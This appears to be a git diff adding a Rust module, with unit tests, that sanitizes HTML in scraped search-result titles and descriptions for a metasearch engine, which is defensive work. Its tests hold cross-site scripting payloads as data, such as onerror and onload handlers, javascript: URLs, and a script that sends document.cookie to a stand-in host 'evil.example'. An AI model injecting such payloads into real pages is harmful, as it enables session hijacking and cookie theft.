@@ -0,0 +1,325 @@
+//! This module provides the functionality to sanitize the html of the titles and the descriptions
+//! of the search results, which are scraped from the pages of the upstream search engines and so
+//! could hold scripts or event handlers which would run on the search page.
+
+use crate::config::search::SnippetHtml;
+use crate::models::aggregation_models::SearchResult;
+
+/// The formatting tags which are kept by the `safe` sanitization, without any of their
+/// attributes.
+const SAFE_TAGS: [&str; 11] = [
+    "b", "strong", "em", "i", "u", "mark", "sub", "sup", "small", "code", "br",
+];
+
+/// The safe tags which have no content and so are never closed.
+const VOID_TAGS: [&str; 1] = ["br"];
+
+/// The tags whose content is not displayed as text, which is removed along with the tags.
+const RAW_TEXT_TAGS: [&str; 10] = [
+    "script", "style", "template", "iframe", "noscript", "textarea", "title", "xmp", "noembed",
+    "noframes",
+];
+
+/// Sanitizes the title and the description of each search result of an upstream search engine.
+///
+/// # Arguments
+///
+/// * `results` - It takes the search results of the engine keyed by their url as an argument.
+/// * `mode` - It takes how the html of the search results is sanitized as an argument.
+pub fn sanitize_results(
+    mut results: Vec<(String, SearchResult)>,
+    mode: SnippetHtml,
+) -> Vec<(String, SearchResult)> {
+    for (_, result) in results.iter_mut() {
+        result.title = sanitize_html(&result.title, mode);
+        result.description = sanitize_html(&result.description, mode);
+    }
+    results
+}
+
+/// Sanitizes an html snippet provided by an upstream search engine, so that it can be inserted
+/// into the search page as it is. The comments and the tags whose content is not text (like
+/// `script`) are removed along with their content, and the stray `<`, `>` and `&` characters
+/// are escaped. The `strip` mode removes every other tag as well, leaving the plain text, while
+/// the `safe` mode keeps the formatting tags (like `b` and `em`) without their attributes and
+/// closes the ones which were left open.
+///
+/// # Arguments
+///
+/// * `html` - It takes the html snippet as an argument.
+/// * `mode` - It takes how the html snippet is sanitized as an argument.
+fn sanitize_html(html: &str, mode: SnippetHtml) -> String {
+    let mut sanitized = String::with_capacity(html.len());
+    let mut open_tags: Vec<&'static str> = Vec::new();
+    let mut rest = html;
+
+    while let Some(index) = rest.find(['<', '>', '&']) {
+        sanitized.push_str(&rest[..index]);
+        rest = &rest[index..];
+
+        if rest.starts_with('>') {
+            sanitized.push_str("&gt;");
+            rest = &rest[1..];
+        } else if rest.starts_with('&') {
+            let entity = entity_len(rest);
+            match entity {
+                0 => sanitized.push_str("&amp;"),
+                _ => sanitized.push_str(&rest[..entity]),
+            }
+            rest = &rest[entity.max(1)..];
+        } else if let Some(comment) = rest.strip_prefix("<!--") {
+            rest = comment.find("-->").map_or("", |end| &comment[end + 3..]);
+        } else if let Some(tag) = parse_tag(rest) {
+            rest = &rest[tag.len..];
+            if RAW_TEXT_TAGS.contains(&tag.name.as_str()) {
+                if !tag.closing {
+                    rest = skip_raw_text(rest, &tag.name);
+                }
+                continue;
+            }
+            if mode == SnippetHtml::Strip {
+                continue;
+            }
+            let Some(name) = SAFE_TAGS.iter().find(|safe| **safe == tag.name) else {
+                continue;
+            };
+            match (tag.closing, VOID_TAGS.contains(name)) {
+                (_, true) if !tag.closing => sanitized.push_str(&format!("<{name}>")),
+                (true, false) => {
+                    // The closing tags which were not opened are dropped, and the tags which
+                    // were opened within the closed tag are closed first.
+                    if let Some(position) = open_tags.iter().rposition(|open| open == name) {
+                        for open in open_tags.drain(position..).rev() {
+                            sanitized.push_str(&format!("</{open}>"));
+                        }
+                    }
+                }
+                (false, false) => {
+                    sanitized.push_str(&format!("<{name}>"));
+                    open_tags.push(name);
+                }
+                _ => (),
+            }
+        } else {
+            sanitized.push_str("&lt;");
+            rest = &rest[1..];
+        }
+    }
+    sanitized.push_str(rest);
+
+    for open in open_tags.into_iter().rev() {
+        sanitized.push_str(&format!("</{open}>"));
+    }
+    sanitized
+}
+
+/// A tag parsed from an html snippet.
+struct Tag {
+    /// The lowercased name of the tag.
+    name: String,
+    /// Whether it is a closing tag.
+    closing: bool,
+    /// The length of the tag, from its `<` to its `>`.
+    len: usize,
+}
+
+/// A helper function which parses the tag at the start of an html snippet, or returns `None` if
+/// the snippet does not start with a complete tag. The declarations (like `<!doctype html>`) and
+/// the processing instructions are parsed as tags without a name.
+///
+/// # Arguments
+///
+/// * `html` - It takes the html snippet starting with a `<` as an argument.
+fn parse_tag(html: &str) -> Option<Tag> {
+    let after = &html[1..];
+    let (closing, name_start) = match after.as_bytes().first()? {
+        b'/' => (true, &after[1..]),
+        b'!' | b'?' => {
+            return after.find('>').map(|end| Tag {
+                name: String::new(),
+                closing: false,
+                len: end + 2,
+            })
+        }
+        _ => (false, after),
+    };
+    if !name_start.starts_with(|character: char| character.is_ascii_alphabetic()) {
+        return None;
+    }
+
+    let name_len = name_start
+        .find(|character: char| !(character.is_ascii_alphanumeric() || character == '-'))
+        .unwrap_or(name_start.len());
+    let name = name_start[..name_len].to_ascii_lowercase();
+
+    // The end of the tag is searched outside of the quoted attribute values, which could hold a
+    // `>` character.
+    let mut quote = None;
+    let offset = html.len() - name_start.len() + name_len;
+    let end = html[offset..]
+        .char_indices()
+        .find_map(|(index, character)| {
+            match (quote, character) {
+                (None, '>') => return Some(index),
+                (None, '"' | '\'') => quote = Some(character),
+                (Some(open), _) if open == character => quote = None,
+                _ => (),
+            }
+            None
+        })?;
+
+    Some(Tag {
+        name,
+        closing,
+        len: offset + end + 1,
+    })
+}
+
+/// A helper function which skips the content of a tag whose content is not text, up to and
+/// including its closing tag, or up to the end of the snippet if it is not closed.
+///
+/// # Arguments
+///
+/// * `html` - It takes the html snippet following the opening tag as an argument.
+/// * `name` - It takes the lowercased name of the tag as an argument.
+fn skip_raw_text<'a>(html: &'a str, name: &str) -> &'a str {
+    let closing = format!("</{name}");
+    let lowercased = html.to_ascii_lowercase();
+    match lowercased.find(&closing) {
+        Some(start) => {
+            let rest = &html[start..];
+            rest.find('>').map_or("", |end| &rest[end + 1..])
+        }
+        None => "",
+    }
+}
+
+/// A helper function which returns the length of the character reference (like `&amp;` or
+/// `&#39;`) at the start of an html snippet, or `0` if the `&` does not start one.
+///
+/// # Arguments
+///
+/// * `html` - It takes the html snippet starting with a `&` as an argument.
+fn entity_len(html: &str) -> usize {
+    let reference = &html[1..];
+    let (prefix, is_valid): (usize, fn(char) -> bool) =
+        if reference.starts_with("#x") || reference.starts_with("#X") {
+            (2, |character| character.is_ascii_hexdigit())
+        } else if reference.starts_with('#') {
+            (1, |character| character.is_ascii_digit())
+        } else {
+            (0, |character| character.is_ascii_alphanumeric())
+        };
+
+    let name = &reference[prefix..];
+    let len = name
+        .find(|character| !is_valid(character))
+        .unwrap_or(name.len());
+    match len > 0 && name[len..].starts_with(';') {
+        true => prefix + len + 2,
+        false => 0,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::style::{ResultsView, Style};
+    use crate::models::{aggregation_models::SearchResults, engine_models::Category};
+    use crate::templates::{locale::Translations, views};
+
+    #[test]
+    fn test_sanitize_html() {
+        let safe = |html: &str| sanitize_html(html, SnippetHtml::Safe);
+        let strip = |html: &str| sanitize_html(html, SnippetHtml::Strip);
+
+        // The formatting tags are kept without their attributes, the other tags are removed.
+        assert_eq!(
+            safe(r#"<b onmouseover="alert(1)">Rust</b> <a href="javascript:alert(1)">lang</a>"#),
+            "<b>Rust</b> lang"
+        );
+        assert_eq!(
+            strip("<b>Rust</b> &amp; <em>Cargo</em>"),
+            "Rust &amp; Cargo"
+        );
+
+        // The scripts are removed along with their content in both modes.
+        for html in [
+            "Rust<script>alert(1)</script>",
+            "Rust<SCRIPT type=\"text/javascript\">alert(1)</SCRIPT >",
+            "Rust<style>body { display: none }</style>",
+            "Rust<script>alert(1)",
+            "Rust<!-- <script>alert(1)</script> -->",
+            r#"Rust<img src="x" onerror="alert(1)">"#,
+            r#"Rust<svg onload=alert(1)>"#,
+            r#"Rust<iframe src="javascript:alert(1)"></iframe>"#,
+        ] {
+            assert_eq!(safe(html), "Rust", "{html}");
+            assert_eq!(strip(html), "Rust", "{html}");
+        }
+
+        // The attribute values holding a `>` do not end the tag early.
+        assert_eq!(
+            safe(r#"<b title="a>b" onclick="alert(1)">Rust</b>"#),
+            "<b>Rust</b>"
+        );
+
+        // The incomplete tags, the stray characters and the invalid references are escaped.
+        assert_eq!(
+            safe("<img src=x onerror=alert(1)//"),
+            "&lt;img src=x onerror=alert(1)//"
+        );
+        assert_eq!(
+            safe("1 < 2 > 0 & &lt; &#39; &#x27; &x"),
+            "1 &lt; 2 &gt; 0 &amp; &lt; &#39; &#x27; &amp;x"
+        );
+
+        // The formatting tags left open are closed and the stray closing tags are dropped.
+        assert_eq!(safe("<b>Rust <em>lang"), "<b>Rust <em>lang</em></b>");
+        assert_eq!(
+            safe("<b>Rust <em>lang</b></em></i>"),
+            "<b>Rust <em>lang</em></b>"
+        );
+        assert_eq!(safe("Rust<br/>lang"), "Rust<br>lang");
+
+        // Sanitizing is idempotent, so the cached results can be sanitized again.
+        let sanitized = safe(r#"<b x="1">1 < 2</b> & <i>&amp;"#);
+        assert_eq!(safe(&sanitized), sanitized);
+    }
+
+    #[test]
+    fn test_malicious_snippets_are_neutralized() {
+        let style = Style::default();
+        let translations = Translations::default();
+        let results = sanitize_results(
+            vec![(
+                "https://www.example.com/".to_owned(),
+                SearchResult::new(
+                    r#"Example<script>document.location="https://evil.example/"+document.cookie</script>"#,
+                    "https://www.example.com/",
+                    r#"An <b>example</b> <img src=x onerror="alert(1)"><a href="javascript:alert(1)">page</a>"#,
+                    &["bing"],
+                ),
+            )],
+            SnippetHtml::Safe,
+        );
+        let search_results =
+            SearchResults::new(results.into_iter().map(|(_, result)| result).collect(), &[]);
+
+        let page = views::search::search(
+            &style,
+            &translations.locale(None, "en"),
+            "example",
+            &search_results,
+            "default",
+            ResultsView::Merged,
+            Category::General,
+            None,
+        )
+        .0;
+        assert!(page.contains("An <b>example</b> page"));
+        assert!(!page.contains("evil.example"));
+        assert!(!page.contains("onerror"));
+        assert!(!page.contains("javascript:alert"));
+    }
+}